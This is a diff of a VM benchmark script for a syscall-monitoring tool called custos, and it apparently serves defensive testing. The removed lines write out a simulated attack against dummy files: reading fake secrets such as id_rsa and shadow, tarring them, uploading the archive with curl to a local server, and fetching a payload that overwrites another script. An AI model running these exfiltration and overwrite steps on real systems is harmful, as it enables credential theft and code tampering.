@@ -1,9 +1,10 @@
 #!/usr/bin/env bash
 # Runs inside the VM (bench/reliability/run.py starts it), one vCPU.
 #
-#   attack      a scripted attack (read four secrets, tar them, upload the
-#               archive over HTTP, download a script, overwrite another with
-#               it) during a `find -exec cat` flood, under `custos sched`
+#   attack      the scripted attack of scripts/attack.sh (read four secrets,
+#               tar them, upload the archive over HTTP, download a script,
+#               overwrite another with it) during a `find -exec cat` flood,
+#               under `custos sched`
 #   skips       the same flood under the default scheduler, which loses
 #               syscalls to skips: are they all in the loss records?
 #   sched-first / collector-first / restart
@@ -54,26 +55,15 @@ stop_sched() {
   kill -INT "$sched"; wait "$sched"
 }
 
-# The attack, run by a shell of its own while the flood runs.
+# The attack (scripts/attack.sh): set up before the flood, run by a shell of
+# its own while the flood runs.
+attacker=$(dirname "$0")/../../scripts/attack.sh
+attack_setup() {
+  bash "$attacker" setup "$work/victim"
+  cp "$work/victim/port" "$out/attack.port"
+}
 attack() {
-  local d=$work/victim
-  rm -rf "$d"; mkdir -p "$d/secrets"
-  for s in id_rsa shadow db.conf wallet; do echo "secret $s" >"$d/secrets/$s"; done
-  echo 'echo maintenance' >"$d/maintenance.sh"
-  /usr/bin/python3 "$work/server.py" "$d/port" "$d/received.bin" &
-  local server=$!
-  until_true "[ -e $d/port ]" 100
-  local port; port=$(cat "$d/port")
-  (
-    cd "$d" || exit 1
-    cat secrets/id_rsa secrets/shadow secrets/db.conf secrets/wallet >/dev/null
-    tar cf archive.tar secrets
-    curl -sf -H 'Expect:' -T archive.tar "http://127.0.0.1:$port/upload"
-    curl -sf -o download.sh "http://127.0.0.1:$port/payload"
-    cp download.sh maintenance.sh
-  )
-  wait "$server"
-  echo "$port" >"$out/attack.port"
+  bash "$attacker" run "$work/victim" "$out/attack.steps.jsonl"
 }
 
 flood() { # name [attack]
@@ -94,6 +84,7 @@ run_attack() {
   echo "attack: the scripted attack during the flood, under custos sched" >&2
   rm -rf /sys/fs/bpf/custos
   start_collector attack; start_sched attack
+  attack_setup
   flood attack attack
   stop_sched; stop_collector
 }
@@ -131,7 +122,6 @@ run_restart() {
   stop_sched; stop_collector
 }
 
-cp "$(dirname "$0")/../../crates/custos/tests/fixtures/http_server.py" "$work/server.py"
 for run in ${RUNS:-attack skips sched-first collector-first restart}; do
   case $run in
     attack | skips | sched-first | collector-first | restart) "run_$run" ;;
